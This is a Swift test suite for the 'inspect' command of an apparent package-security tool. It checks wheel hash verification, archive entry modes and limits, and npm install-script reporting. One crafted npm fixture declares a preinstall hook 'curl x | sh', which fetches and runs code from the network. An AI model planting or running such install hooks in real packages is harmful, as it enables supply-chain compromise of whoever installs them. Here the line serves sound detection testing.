import Foundation
import Testing
import BouncerTestSupport

/// `bouncer inspect` as a person runs it, on a real wheel fetched with pip
/// and on a crafted npm tarball with an install script.
@Suite(.blocking) struct InspectCommandTests {
    @Test func realWheelPassesAndChangedWheelFailsNamingTheFile() throws {
        let dir = try BouncerProcess.temporaryDirectory("bouncer-inspect-wheel")
        defer { try? FileManager.default.removeItem(at: dir) }
        let pip = try BouncerProcess.runProgram("/usr/bin/env", [
            "python3", "-m", "pip", "download", "--no-deps", "--only-binary=:all:", "--disable-pip-version-check",
            "-q", "six==1.16.0", "-d", dir.path])
        let wheels = (try? FileManager.default.contentsOfDirectory(atPath: dir.path))?.filter { $0.hasSuffix(".whl") } ?? []
        guard pip.status == 0, let name = wheels.first else {
            print("NOTICE: inspect wheel test skipped: pip download failed: \(pip.err.suffix(300))")
            return
        }
        let wheel = dir.appendingPathComponent(name).path
        let ok = try BouncerProcess.run(["inspect", wheel])
        #expect(ok.status == 0, "\(ok.out)\(ok.err)")
        #expect(ok.out.contains("six.dist-info/RECORD") || ok.out.contains(".dist-info/RECORD"))
        #expect(ok.out.contains("files verified: OK"))

        let changed = dir.appendingPathComponent("changed.whl").path
        try UnpackCommandTests.python(#"""
import sys, zipfile
with zipfile.ZipFile(sys.argv[1]) as zin, zipfile.ZipFile(sys.argv[2], "w", zipfile.ZIP_DEFLATED) as zout:
    for item in zin.infolist():
        data = zin.read(item)
        zout.writestr(item, data.replace(b"import sys", b"import sYs", 1) if item.filename == "six.py" else data)
"""#, [wheel, changed])
        let bad = try BouncerProcess.run(["inspect", changed, "--kind", "wheel"])
        #expect(bad.status == 1)
        #expect(bad.out.contains("PROBLEM: 'six.py' does not match its RECORD sha256 hash"), "\(bad.out)")

        let json = try BouncerProcess.run(["inspect", changed, "--kind", "wheel", "--json"])
        #expect(json.status == 1)
        let object = try JSONSerialization.jsonObject(with: json.stdout) as? [String: Any]
        #expect(object?["verdict"] as? String == "fail")
        let problems = object?["problems"] as? [[String: Any]]
        #expect(problems?.first?["entry"] as? String == "six.py")
    }

    @Test func npmTarballShowsInstallScripts() throws {
        let dir = try BouncerProcess.temporaryDirectory("bouncer-inspect-npm")
        defer { try? FileManager.default.removeItem(at: dir) }
        try UnpackCommandTests.python(#"""
import io, sys, tarfile
with tarfile.open(sys.argv[1] + "/pkg.tgz", "w:gz") as t:
    for path, data in [("package/package.json", b'{"name":"demo","version":"1.0.0","scripts":{"preinstall":"curl x | sh"}}'),
                       ("package/index.js", b"module.exports = 1\n")]:
        info = tarfile.TarInfo(path); info.size = len(data); t.addfile(info, io.BytesIO(data))
"""#, [dir.path])
        let pkg = dir.appendingPathComponent("pkg.tgz").path
        let result = try BouncerProcess.run(["inspect", pkg])
        #expect(result.status == 0, "\(result.err)")
        #expect(result.out.contains("npm package: demo@1.0.0"))
        #expect(result.out.contains("INSTALL SCRIPTS"))
        #expect(result.out.contains("preinstall: curl x | sh"))

        let wrong = try BouncerProcess.run(["inspect", pkg, "--expect-name", "other"])
        #expect(wrong.status == 1)
        #expect(wrong.out.contains("expected 'other'"))
        let usage = try BouncerProcess.run(["inspect", pkg, "--kind", "rpm"])
        #expect(usage.status == 2)
        let missing = try BouncerProcess.run(["inspect", dir.appendingPathComponent("nope.whl").path])
        #expect(missing.status == 3)
    }

    /// `--json` gives each entry's type and mode as stored (setuid and sticky
    /// bits included: inspect reports, unpack strips), and links their targets.
    @Test func jsonListsEachEntrysTypeAndMode() throws {
        let dir = try BouncerProcess.temporaryDirectory("bouncer-inspect-json")
        defer { try? FileManager.default.removeItem(at: dir) }
        try UnpackCommandTests.python(#"""
import io, sys, tarfile
def add(t, name, kind, mode, data=b"", link=""):
    info = tarfile.TarInfo(name); info.type = kind; info.mode = mode; info.linkname = link
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    t.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
with tarfile.open(sys.argv[1] + "/modes.tar.gz", "w:gz") as t:
    add(t, "top/", tarfile.DIRTYPE, 0o750)
    add(t, "top/plain.txt", tarfile.REGTYPE, 0o640, b"plain\n")
    add(t, "top/tool", tarfile.REGTYPE, 0o4755, b"#!/bin/sh\n")
    add(t, "top/shared/", tarfile.DIRTYPE, 0o1777)
    add(t, "top/link", tarfile.SYMTYPE, 0o777, link="plain.txt")
    add(t, "top/again", tarfile.LNKTYPE, 0o640, link="top/plain.txt")
"""#, [dir.path])
        let result = try BouncerProcess.run(["inspect", "modes.tar.gz", "--json"], cwd: dir.path)
        #expect(result.status == 0, "\(result.err)")
        let object = try #require(try JSONSerialization.jsonObject(with: result.stdout) as? [String: Any])
        let entries = try #require(object["entries"] as? [[String: Any]])
        let facts = entries.map { [$0["path"] as? String ?? "?", $0["type"] as? String ?? "?", $0["mode"] as? String ?? "?"] }
        #expect(facts == [["top/", "directory", "0750"], ["top/plain.txt", "file", "0640"], ["top/tool", "file", "4755"],
                          ["top/shared/", "directory", "1777"], ["top/link", "symlink", "0777"], ["top/again", "hardlink", "0640"]])
        #expect(entries[4]["linkTarget"] as? String == "plain.txt")
        #expect(entries[5]["linkTarget"] as? String == "top/plain.txt")
        // sha256 of the file's bytes, by sha256sum (not by Bouncer).
        let digest = try BouncerProcess.runProgram("/usr/bin/sha256sum", ["-"], stdin: Data("plain\n".utf8)).out.prefix(64)
        #expect(entries[1]["sha256"] as? String == String(digest))
        #expect(entries[1]["size"] as? Int == 6)
        #expect(object["compression"] as? String == "gzip")

        // The policy's archive limits apply to inspect too; a flag wins over them.
        try #"{"version": 1, "rules": [], "archive": {"maxEntries": 2}}"#.write(to: dir.appendingPathComponent("policy.json"), atomically: true, encoding: .utf8)
        let limited = try BouncerProcess.run(["inspect", "modes.tar.gz", "--json"], cwd: dir.path)
        #expect(limited.status == 1)
        #expect(limited.err.contains("entry 'top/tool' refused: the archive has more than 2 entries"), "\(limited.err)")
        let raised = try BouncerProcess.run(["inspect", "modes.tar.gz", "--json", "--max-entries", "6"], cwd: dir.path)
        #expect(raised.status == 0, "\(raised.err)")
    }
}
